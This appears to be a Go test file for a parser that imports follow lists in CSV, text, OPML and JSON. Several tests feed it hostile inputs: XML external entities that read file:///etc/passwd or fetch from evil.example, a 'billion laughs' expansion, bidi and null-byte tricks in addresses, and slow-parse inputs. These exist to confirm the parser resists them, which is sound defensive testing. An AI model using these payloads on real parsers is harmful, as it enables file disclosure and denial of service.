package exchange

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"vitrine/feeds"
	"vitrine/feeds/feedstest/golden"
)

func TestFilesAreRead(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob("testdata/*")
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range files {
		if ext := filepath.Ext(file); ext == "" || ext == ".golden" {
			continue
		}
		t.Run(filepath.Base(file), func(t *testing.T) {
			t.Parallel()
			result, err := read([]byte(golden.Text(t, filepath.Base(file))))
			if err != nil {
				t.Fatal(err)
			}
			result.File = nil
			golden.Compare(t, file+".golden", golden.View(t, result))
		})
	}
}

// short is a result as a text: the format, then an address or reason for each line.
func short(r Result, err error) string {
	if err != nil {
		return string(feeds.KindOf(err))
	}
	var s strings.Builder
	s.WriteString(string(r.Format) + ":")
	for _, e := range r.Entries {
		fmt.Fprintf(&s, " %s", e.Address)
		for _, l := range e.Lists {
			fmt.Fprintf(&s, "/%s", l)
		}
		if e.Boosts != "" {
			s.WriteString("+" + string(e.Boosts))
		}
	}
	for _, u := range r.Unread {
		fmt.Fprintf(&s, " %d=%s", u.Line, u.Reason)
	}
	return s.String()
}

func TestWhatAFileIsShowsInItsContent(t *testing.T) {
	t.Parallel()
	for _, g := range []struct{ name, file, want string }{
		{"a header alone", "Account address,Show boosts\n", "following-csv:"},
		{"the oldest export", "ada@a.example\nbob@b.example\n", "text: @ada@a.example @bob@b.example"},
		{"an old export without names", "ada@a.example,true\nbob@b.example,false", "following-csv: @ada@a.example @bob@b.example+hide"},
		{"addresses with the sign", "Account adress,Show Boosts\n@ada@a.example,TRUE\n@bob@b.example - b.example,TRUE\n", "following-csv: @ada@a.example @bob@b.example"},
		{"semicolons", "Account address;Show boosts;Notify on new posts;Languages\r\nada@a.example;FALSCH;FALSCH;\r\n", "following-csv: @ada@a.example+hide"},
		{"what Excel writes first", "sep=;\r\nAccount address;Show boosts\r\nnobody;x\r\nada@a.example;FALSE\r\n", "following-csv: @ada@a.example+hide 3=noserver"},
		{"tabs", "Town\tada@a.example\nTown\tbob@b.example\n", "lists-csv: @ada@a.example/Town @bob@b.example/Town"},
		{"a byte order mark", "\ufeffAccount address,Show boosts\nada@a.example,true", "following-csv: @ada@a.example"},
		{"old ends of lines", "Account address,Show boosts\rada@a.example,false\rbob@b.example,true", "following-csv: @ada@a.example+hide @bob@b.example"},
		{"a table of people", "account,name,url\nada@a.example,Ada,https://a.example/@ada\n", "following-csv: @ada@a.example"},
		{"a table of feeds", "title,feed url,folder\nAda,https://a.example/feed,Town\n", "following-csv: https://a.example/feed/Town"},
		{"names, not lists", "Ada,@ada@a.example\nBob,@bob@b.example\nCat,@cat@c.example\n", "text: @ada@a.example @bob@b.example @cat@c.example"},
		{"a list in a cell that isn't closed", "Town,ada@a.example\nTown,\"bob@b.example\nTown,cat@c.example\n", `lists-csv: @ada@a.example/Town @bob@b.example/Town @cat@c.example/Town 2=broken`},
		{"Western letters of old", "B\xfccher,ada@a.example\nB\xfccher,bob@b.example", "lists-csv: @ada@a.example/Bücher @bob@b.example/Bücher"},
		{"one address", "@ada@a.example", "text: @ada@a.example"},
		{"a server", "a.example", "text: a.example"},
		{"a link to a Vitrine", "https://v.example/x/#/!cats@lemmy.example", "text: !cats@lemmy.example"},
		{"a shared list", "take https://v.example/#/following?add=@ada@a.example,@bob@b.example now", "text: @ada@a.example @bob@b.example"},
		{"a name without its server", "@marta", "text: 1=noserver"},
		{"a name with half of a server", "@marta@hafenlicht", "text: 1=noserver"},
		{"an empty page of follows", `{"type":"OrderedCollection","totalItems":50,"first":"https://a.example/f?page=1"}`, "collection:"},
		{"one item in JSON-LD", `{"type":["Collection"],"name":"Town","items":"https://a.example/users/ada"}`, "collection: @ada@a.example/Town"},
		{"Mastodon's collections", `{"collection":{"name":"Town"},"accounts":[{"acct":"ada","url":"https://a.example/@ada"}]}`, "collection: @ada@a.example/Town"},
		{"an array of texts", ` ["ada@a.example","x"]`, "collection: @ada@a.example 2=noaddress"},
		{"follows by their addresses", `{"vitrine":1,"follows":{"#/i/a.example":{"title":"A"},"#/@ada@a.example":null}}`, "vitrine: @ada@a.example a.example"},
		{"settings alone", `{"vitrine":1,"settings":{}}`, "vitrine:"},
		{"a link of Markdown first", "[Ada](https://a.example/@ada)", "text: @ada@a.example"},
	} {
		if got := short(read([]byte(g.file))); got != g.want {
			t.Errorf("%s\n got %s\nwant %s", g.name, got, g.want)
		}
	}
}

func TestBadFilesAreRefused(t *testing.T) {
	t.Parallel()
	many := func(n int, line string) string {
		var s strings.Builder
		for i := range n {
			fmt.Fprintf(&s, line, i)
		}
		return s.String()
	}
	for _, g := range []struct{ name, file, want string }{
		{"nothing", "", "BadData"},
		{"only space", " \r\n\ufeff", "BadData"},
		{"a picture", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00", "BadData"},
		{"a picture in Latin letters", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01", "BadData"},
		{"an archive", "PK\x03\x04\x14\x00\x00\x00\x08\x00", "BadData"},
		{"a web page", "<!doctype html><html><head><title>Log in</title></head><body><form><input></form><a href=https://a.example/about>About</a></body></html>", "BadData"},
		{"a web feed", `<?xml version="1.0"?><rss><channel><link>https://a.example/</link></channel></rss>`, "BadData"},
		{"prose", "Dear reader,\nthere is nothing here.\n", "BadData"},
		{"other JSON", `{"name":"x","version":"1.0.0"}`, "BadData"},
		{"a post in JSON", `{"type":"Note","items":["https://a.example/@ada"]}`, "BadData"},
		{"numbers in JSON", `[1,2,3]`, "BadData"},
		{"JSON that was cut off", `{"vitrine":1,"follows":["@ada@a.ex`, "BadData"},
		{"deep JSON", strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000), "BadData"},
		{"a later Vitrine", `{"vitrine":2}`, "Unsupported"},
		{"no version", `{"vitrine":0,"follows":["@ada@a.example"]}`, "BadData"},
		{"a wrong version", `{"vitrine":"x"}`, "BadData"},
		{"too long a file", strings.Repeat("a", MaxSize+1), "TooLarge"},
		{"fifty megabytes", "<opml>" + strings.Repeat(`<outline xmlUrl="https://a.example/f"/>`, 50<<20/39), "TooLarge"},
		{"three thousand folders in each other, too often", "<opml>" + many(MaxEntries+1, `<outline text="%d">`), "TooLarge"},
		{"too many entries", many(MaxEntries+1, "u%d@a.example\n"), "TooLarge"},
		{"too many rows", "Account address\n" + many(MaxEntries+1, "u%d@a.example\n"), "TooLarge"},
		{"too many outlines", "<opml>" + many(MaxEntries+1, `<outline xmlUrl="https://a.example/%d.xml"/>`) + "</opml>", "TooLarge"},
		{"too many folders", "<opml>" + many(MaxEntries+1, `<outline text="%d"/>`) + "</opml>", "TooLarge"},
		{"too many repetitions", strings.Repeat("@ada@a.example ", maxLooks+1), "TooLarge"},
		{"too many items", "[" + many(MaxEntries+1, `"u%d@a.example",`) + `"x"]`, "TooLarge"},
	} {
		if got := short(read([]byte(g.file))); got != g.want {
			t.Errorf("%s: %.300s, want %s", g.name, got, g.want)
		}
	}
}

func TestEntitiesOfHostileFilesNeitherGrowNorNameFiles(t *testing.T) {
	t.Parallel()
	laughs := `<!DOCTYPE opml [<!ENTITY l0 "ha">`
	for i := range 30 {
		laughs += fmt.Sprintf(`<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	for name, declaration := range map[string]string{
		"&l30;":  laughs + `]>`,
		"&file;": `<!DOCTYPE opml [<!ENTITY file SYSTEM "file:///etc/passwd">]>`,
		"&away;": `<!DOCTYPE opml [<!ENTITY away PUBLIC "x" "https://evil.example/x"> <!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>`,
	} {
		r, err := read([]byte(declaration + `<opml><body><outline text="` + name + `" xmlUrl="https://a.example/f"/><outline xmlUrl="` + name + `"/></body></opml>`))
		if err != nil || len(r.Entries) != 1 || r.Entries[0].Title != name || len(r.Unread) != 1 || r.Unread[0].Text != name {
			t.Errorf("%s: %+v, %v", name, r, err)
		}
	}
}

func TestFoldersDeepInEachOtherAreRead(t *testing.T) {
	t.Parallel()
	const deep = 9000
	r, err := read([]byte("<opml>" + strings.Repeat(`<outline text="a">`, deep) + `<outline xmlUrl="https://a.example/f"/>` + strings.Repeat("</outline>", deep) + "</opml>"))
	if got := short(r, err); got != "opml: feed:https://a.example/f/a" {
		t.Error(got)
	}
}

func TestManyOfTheSameAreOneEntry(t *testing.T) {
	t.Parallel()
	file := strings.Repeat("ada@a.example\n", MaxEntries+5)
	if got := short(read([]byte(file))); got != "text: @ada@a.example" {
		t.Errorf("%.100s", got)
	}
}

func TestLinesThatWereNotReadAreCounted(t *testing.T) {
	t.Parallel()
	r, err := read([]byte("Account address\n" + strings.Repeat("nobody\n", maxUnread+7)))
	if err != nil || len(r.Unread) != maxUnread || r.MoreUnread != 7 || r.Unread[0] != (Unread{2, "nobody", NoServer}) {
		t.Errorf("%d, %d, %v", len(r.Unread), r.MoreUnread, err)
	}
}

func TestUTF16IsRead(t *testing.T) {
	t.Parallel()
	const text = "Account address;Show boosts\r\nada@bücher.example;FALSE\r\n"
	units := utf16.Encode([]rune(text))
	var little, big bytes.Buffer
	for _, u := range units {
		little.Write([]byte{byte(u), byte(u >> 8)})
		big.Write([]byte{byte(u >> 8), byte(u)})
	}
	for name, file := range map[string]string{
		"little": "\xff\xfe" + little.String(), "big": "\xfe\xff" + big.String(), "little, unmarked": little.String(), "big, unmarked": big.String(),
	} {
		if got := short(read([]byte(file))); got != "following-csv: @ada@xn--bcher-kva.example+hide" {
			t.Errorf("%s: %s", name, got)
		}
	}
}

func TestHostileTextIsNeverAnAddress(t *testing.T) {
	t.Parallel()
	for _, g := range []struct{ file, want string }{
		{"Account address\nada\u202e@a.example\n\u2066@bob@b.example\u2069\n", "following-csv: @bob@b.example 2=hidden"},
		{"Account address\nada\x00@a.example\n\"ada\n@a.example\"\n" + strings.Repeat("bob@b.example\n", 10), "following-csv: @bob@b.example 2=hidden 3=noaddress"},
		{"@ada@a.\u202eexample x @bob@b.example", "text: @bob@b.example 1=hidden"},
		{`["https://a.example/@ada\u0000"]`, "collection: 1=hidden"},
		{`<opml><outline xmlUrl="file:///etc/passwd"/><outline xmlUrl="https://u:p@a.example/f"/><outline xmlUrl="//"/></opml>`,
			"opml: 1=noaddress 1=noaddress 1=noaddress"},
	} {
		if got := short(read([]byte(g.file))); got != g.want {
			t.Errorf("%q\n got %s\nwant %s", g.file, got, g.want)
		}
	}
	r, err := read([]byte("<opml><outline text='a&#0;\u202eb\x01\n c' xmlUrl='https://a.example/f.xml'/></opml>"))
	if err != nil || len(r.Entries) != 1 || r.Entries[0].Title != "a \u202eb c" {
		t.Errorf("%+v, %v", r, err)
	}
}

func TestHostileFilesTakeNoTime(t *testing.T) {
	t.Parallel()
	fill := func(s string) string { return strings.Repeat(s, MaxSize/4/len(s)) }
	for name, file := range map[string]string{ // what took the square of the length would take minutes
		"open outlines":   "<opml>" + fill(`<outline text="a">`),
		"open quotes":     "<opml>" + fill(`<outline text="`),
		"single quotes":   "<opml>" + fill(`<outline text='`),
		"open comments":   "<opml>" + fill(`<!--`),
		"open doctypes":   "<opml>" + fill(`<![`),
		"open CDATA":      "<opml>" + fill(`<![CDATA[`),
		"open scripts":    "<html>" + fill(`<script>`),
		"less-than signs": "<p>" + fill(`<`),
		"attributes":      "<opml><outline " + fill(`a `),
		"quoted cells":    "Account address\n" + fill(`"a`),
		"marks":           "Account address\n" + fill(`"`),
		"commas":          fill(`,`),
		"commas in a URL": "https://a.example/" + fill(`,;`),
		"signs":           fill(`@`),
		"words":           fill(`@a `),
		"links":           fill(linkStart),
		"brackets":        fill(`[`),
		"entities":        "<opml>" + fill(`&lol;`),
		"billion laughs":  `<!DOCTYPE opml [<!ENTITY a "` + fill(`&b;`) + `">]><opml><outline text="&a;"/></opml>`,
		"arrays":          fill(`{"a":`),
		"types":           `{"type":[` + fill(`"Collection",`) + `"x"],"items":[]}`,
	} {
		start := time.Now()
		_, _ = read([]byte(file))
		if d := time.Since(start); d > 20*time.Second {
			t.Errorf("%s took %s", name, d)
		}
	}
}

func TestKeysAreEqualForOneAddress(t *testing.T) {
	t.Parallel()
	for _, same := range [][]string{
		{"@ada@bücher.example", "ADA@XN--BCHER-KVA.example", "https://bücher.example/@ada/", "#/@ada@xn--bcher-kva.example/media", "acct:ada@bücher.example."},
		{"#Tea@a.example", "#/t/A.example/tea", "https://a.example/tags/TEA"},
		{"a.example", "https://a.example/", "#/i/a.example/about"},
		{"https://a.example/feed", "https://a.example/feed/", "http://A.example/feed", "#/f/https%3A%2F%2Fa.example%2Ffeed"},
		{"!cats@a.example", "#/!cats@a.example"},
		{"#/l/v.example/1", "https://v.example/w/p/1", "#/p/v.example/playlist:1"},
	} {
		want, ok := Key(same[0])
		for _, s := range same {
			if got, known := Key(s); !ok || !known || got != want {
				t.Errorf("%s: %q, %v, want %q", s, got, known, want)
			}
		}
	}
	if a, _ := Key("#/i/a.example"); a == "" {
		t.Error("a server has no key")
	} else if b, _ := Key("#/i/a.example/federated"); a == b {
		t.Error("two timelines have one key")
	}
	for _, none := range []string{"", "x", "#tea", "https://a.example/@ada/12", "@ada"} {
		if key, ok := Key(none); ok {
			t.Errorf("%s: %s", none, key)
		}
	}
}

// manyFollows are the follows of somebody who follows many.
func manyFollows(n int) []Entry {
	var all []Entry
	for i := range n {
		all = append(all, Entry{Address: fmt.Sprintf("@user%d@host%d.example", i, i%200), Title: fmt.Sprintf("User %d", i), Lists: []string{fmt.Sprintf("List %d", i%20)}})
	}
	return all
}

func BenchmarkReadFollows(b *testing.B) {
	entries := manyFollows(3000)
	csv, _ := WriteFollowingCSV(entries)
	follows, lists := WriteSections(entries, nil)
	own, _ := EncodeFile(File{Follows: follows, Lists: lists})
	for name, file := range map[string][]byte{"CSV": csv, "OPML": WriteOPML("x", entries, nil), "JSON": own} {
		b.Run(name, func(b *testing.B) {
			for b.Loop() {
				if r, err := read(file); err != nil || len(r.Entries) != len(entries) {
					b.Fatal(len(r.Entries), err)
				}
			}
		})
	}
}

func TestFixturesHaveGoldens(t *testing.T) {
	t.Parallel()
	files, _ := filepath.Glob("testdata/*.golden")
	for _, file := range files {
		if _, err := os.Stat(strings.TrimSuffix(file, ".golden")); err != nil {
			t.Error(err)
		}
	}
}
